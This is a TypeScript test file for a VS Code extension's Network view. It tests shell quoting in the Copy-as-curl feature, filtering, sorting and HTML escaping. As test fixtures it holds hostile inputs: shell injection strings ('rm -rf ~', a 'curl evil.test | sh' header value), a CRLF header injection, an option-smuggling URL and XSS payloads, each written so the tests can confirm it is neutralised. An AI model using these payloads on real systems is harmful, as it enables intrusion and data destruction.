// The Network view's pieces that need no VS Code: Copy as curl (hostile values quoted for a POSIX
// shell, checked by running the shell), the filter and sort model, the page cut on navigation, and
// the escaping of page-chosen text in the view's HTML.
import * as assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { curlCommand, shellQuote } from '../../src/extension/network/curl';
import { filterFrom, nextSort, NO_FILTER, pageStart, statusClassOf, visibleEntries } from '../../src/extension/network/model';
import { detailsHtml, formatMs, networkViewHtml, rowsHtml } from '../../src/extension/network/viewPage';
import type { NetworkEntry } from '../../src/network/protocol';

function entry(seq: number, over: Partial<NetworkEntry> = {}): NetworkEntry {
  return {
    windowId: 1, seq, method: 'GET', url: `http://127.0.0.1:8080/r${seq}`, status: 200, statusText: 'OK', resourceType: 'document',
    mimeType: 'text/html', transferredBytes: 100 * seq, bodyBytes: null, startedAt: 1000, responseAt: 1010, endedAt: 1000 + seq,
    requestHeaders: [], responseHeaders: [], redirectedTo: null, failure: null, initiator: null, ...over,
  };
}

/** POSIX word splitting of what the quoting uses: blanks, single quotes (literal to the next one),
 *  a backslash outside quotes escaping the next character. Checked against sh where there is one. */
function posixWords(line: string): string[] {
  const words: string[] = [];
  let word: string | null = null;
  for (let i = 0; i < line.length; i++) {
    const c = line[i];
    if (c === ' ' || c === '\t' || c === '\n') {
      if (word !== null) words.push(word);
      word = null;
    } else if (c === "'") {
      const end = line.indexOf("'", i + 1);
      if (end < 0) throw new Error(`unterminated quote in ${line}`);
      word = (word ?? '') + line.slice(i + 1, end);
      i = end;
    } else if (c === '\\') {
      word = (word ?? '') + line[++i];
    } else if ('$`"*?!;&|<>()'.includes(c)) {
      throw new Error(`unquoted ${c} in ${line}`);
    } else {
      word = (word ?? '') + c;
    }
  }
  if (word !== null) words.push(word);
  return words;
}

/** The words a POSIX shell makes of a command line (each printed on a line by printf); under
 *  Windows node (no sh) the splitter above stands in. */
function shellWords(line: string): string[] {
  const args = line.replace(/^curl /, '');
  const modelled = posixWords(args);
  if (process.platform === 'win32') return modelled;
  const out = execFileSync('sh', ['-c', `printf '%s\\n' ${args}`], { encoding: 'utf8' });
  const words = out.split('\n').slice(0, -1);
  assert.deepEqual(modelled, words, 'the splitter agrees with sh');
  return words;
}

describe('Copy as curl', () => {
  const hostile = ["it's", '$(touch /tmp/pwned)', '`id`', '"; rm -rf ~ #', '\\\'\'', 'a\tb', '${HOME}', '!!', '*'];

  it('quotes each hostile word so that the shell gives it back unchanged', () => {
    for (const w of hostile) assert.deepEqual(shellWords(shellQuote(w)), [w], w);
  });

  it('builds a command whose words are exactly the method, URL and headers', () => {
    const e = entry(1, {
      method: 'POST', url: "http://h.test/a?q='$(id)'&x=`y`",
      requestHeaders: [
        { name: 'X-Evil', value: "'; curl evil.test | sh; echo '" }, { name: ':authority', value: 'h.test' },
        { name: 'Content-Length', value: '3' }, { name: 'Accept-Encoding', value: 'gzip' }, { name: 'X-Empty', value: '' },
      ],
    });
    const { text, omitted } = curlCommand(e);
    assert.deepEqual(omitted, []);
    assert.deepEqual(shellWords(text.replace(/ \\\n {2}/g, ' ')), [
      "http://h.test/a?q='$(id)'&x=`y`", '-X', 'POST', '-H', "X-Evil: '; curl evil.test | sh; echo '", '-H', 'Accept-Encoding: gzip', '-H', 'X-Empty;', '--compressed',
    ]);
    assert.match(text, /^curl '/);
  });

  it('leaves out a header with a line break (it would become a second header) and names it', () => {
    const { text, omitted } = curlCommand(entry(1, { requestHeaders: [{ name: 'X-A', value: 'a\r\nCookie: stolen' }, { name: 'X-B', value: 'b' }] }));
    assert.deepEqual(omitted, ['X-A']);
    assert.doesNotMatch(text, /stolen/);
    assert.match(text, /-H 'X-B: b'/);
  });

  it('refuses a URL with a line break and a method that is not a token', () => {
    assert.throws(() => curlCommand(entry(1, { url: 'http://h.test/\nrm -rf ~' })), /line break/);
    assert.throws(() => curlCommand(entry(1, { method: 'GET; id' })), /not a valid HTTP token/);
  });

  it('keeps a URL that does not start with a scheme from reading as an option', () => {
    assert.match(curlCommand(entry(1, { url: '-o/etc/passwd' })).text, /^curl --url '-o\/etc\/passwd'$/);
    assert.match(curlCommand(entry(1, { method: 'HEAD' })).text, /--head/);
  });
});

describe('Network view model', () => {
  const entries = [
    entry(1),
    entry(2, { url: 'http://127.0.0.1:8080/style.css', resourceType: 'stylesheet', mimeType: 'text/css', transferredBytes: 5 }),
    entry(3, { url: 'http://127.0.0.1:8080/missing.png', resourceType: 'image', status: 404, statusText: 'Not Found', transferredBytes: 900 }),
    entry(4, { url: 'http://127.0.0.1:1/x.js', resourceType: 'script', status: null, statusText: '', failure: { kind: 'refused', message: 'Connection refused' } }),
    entry(5, { status: 302, statusText: 'Found', resourceType: 'document' }),
  ];

  it('classes statuses, a missing one as failed', () => {
    assert.deepEqual(entries.map(statusClassOf), ['2xx', '2xx', '4xx', 'failed', '3xx']);
  });

  it('filters by type, status class and text (URL, status, MIME, failure), together', () => {
    const seqs = (f: Partial<typeof NO_FILTER>) => visibleEntries(entries, { ...NO_FILTER, ...f }, { key: 'seq', dir: 1 }).map((e) => e.seq);
    assert.deepEqual(seqs({}), [1, 2, 3, 4, 5]);
    assert.deepEqual(seqs({ type: 'image' }), [3]);
    assert.deepEqual(seqs({ status: '4xx' }), [3]);
    assert.deepEqual(seqs({ status: 'failed' }), [4]);
    assert.deepEqual(seqs({ text: 'CSS' }), [2]);
    assert.deepEqual(seqs({ text: '404' }), [3]);
    assert.deepEqual(seqs({ text: 'refused' }), [4]);
    assert.deepEqual(seqs({ type: 'document', status: '2xx' }), [1]);
  });

  it('sorts by a column, failures after every status, ties in the order they finished', () => {
    const by = (key: string, dir: 1 | -1 = 1) => visibleEntries(entries, NO_FILTER, { key: key as 'seq', dir }).map((e) => e.seq);
    assert.deepEqual(by('status'), [1, 2, 5, 3, 4]);
    assert.deepEqual(by('size', -1), [3, 5, 4, 1, 2]);
    assert.deepEqual(by('type'), [1, 5, 3, 4, 2]);
  });

  it('reads a page message defensively and turns the order round on a second click', () => {
    assert.deepEqual(filterFrom({ resourceType: 'image', status: '4xx', text: 'a' }), { type: 'image', status: '4xx', text: 'a' });
    assert.deepEqual(filterFrom({ resourceType: '<script>', status: 42, text: { x: 1 } }), NO_FILTER);
    assert.deepEqual(filterFrom(null), NO_FILTER);
    assert.deepEqual(nextSort({ key: 'seq', dir: 1 }, 'status'), { key: 'status', dir: 1 });
    assert.deepEqual(nextSort({ key: 'status', dir: 1 }, 'status'), { key: 'status', dir: -1 });
    assert.deepEqual(nextSort({ key: 'seq', dir: 1 }, '__proto__'), { key: 'seq', dir: 1 });
  });

  it('finds where a page\'s requests begin, over the redirects that led to it', () => {
    const log = [
      entry(1, { url: 'http://a.test/old' }), entry(2, { url: 'http://a.test/old.css', resourceType: 'stylesheet' }),
      entry(3, { url: 'http://a.test/login', status: 302, redirectedTo: 'http://a.test/home' }),
      entry(4, { url: 'http://a.test/home' }), entry(5, { url: 'http://a.test/home.css', resourceType: 'stylesheet' }),
    ];
    assert.deepEqual(pageStart(log, 'http://a.test/home'), { start: 3, document: 4 });
    assert.deepEqual(pageStart(log, 'http://a.test/old'), { start: 1, document: 1 });
    assert.equal(pageStart(log, 'http://a.test/not-yet'), undefined);
    // A reload: the same URL again, and only a document newer than the current page's counts.
    assert.equal(pageStart(log, 'http://a.test/home', 4), undefined);
    assert.deepEqual(pageStart([...log, entry(6, { url: 'http://a.test/home' })], 'http://a.test/home', 4), { start: 6, document: 6 });
  });
});

describe('Network view HTML', () => {
  const evil = '<img src=x onerror=alert(1)>"\'&';
  const hostile = entry(7, {
    url: `http://h.test/${evil}`, method: 'GET', status: 500, statusText: `</td><script>alert(2)</script>`, mimeType: evil,
    requestHeaders: [{ name: `X-${evil}`, value: `<b>${evil}</b>` }], responseHeaders: [{ name: 'Set-Cookie', value: '********' }],
    failure: null, initiator: evil, redirectedTo: `javascript:${evil}`,
  });

  it('shows page-chosen text in the rows as text, never markup', () => {
    const html = rowsHtml([hostile], 7);
    assert.doesNotMatch(html, /<img|<script|<\/td><script|onerror=alert\(1\)>"/);
    assert.match(html, /&lt;img src=x onerror=alert\(1\)&gt;&quot;&#39;&amp;/);
    assert.match(html, /&lt;\/td&gt;&lt;script&gt;alert\(2\)&lt;\/script&gt;/);
    assert.match(html, /class="bad selected"/);
  });

  it('shows headers, MIME type, initiator and redirect target in the details as text, control characters as escapes', () => {
    const html = detailsHtml({ ...hostile, requestHeaders: [...hostile.requestHeaders, { name: 'X-Line', value: 'a\nb\u202e' }] });
    assert.doesNotMatch(html, /<img|<script|<b>/);
    assert.match(html, /&lt;b&gt;&lt;img src=x/);
    assert.match(html, /a\\nb\\u202e/);
    assert.match(html, /<td class="masked"[^>]*>\*{8}<\/td>/);
    assert.equal((html.match(/<(?!\/?(h2|h3|div|button|table|tr|th|td)\b)[a-z]/g) ?? []).length, 0, 'only the view\'s own elements');
  });

  it('shows durations in whole milliseconds, one decimal below 10 ms', () => {
    assert.deepEqual([12.675537109375, 4.71242, 0.353, 1000.5].map(formatMs), ['13 ms', '4.7 ms', '0.4 ms', '1001 ms']);
  });

  it('has a strict CSP: nothing remote, scripts only with the nonce', () => {
    const page = networkViewHtml({ cspSource: 'vscode-resource:', script: 'vscode-resource:/n.js', style: 'vscode-resource:/n.css', nonce: 'abc123' }).replace(/&#39;/g, "'");
    assert.match(page, /default-src 'none'/);
    assert.match(page, /script-src 'nonce-abc123'/);
    assert.doesNotMatch(page, /unsafe-inline|unsafe-eval|https?:/);
    assert.match(page, /<script nonce="abc123" src="vscode-resource:\/n.js"><\/script>/);
  });
});
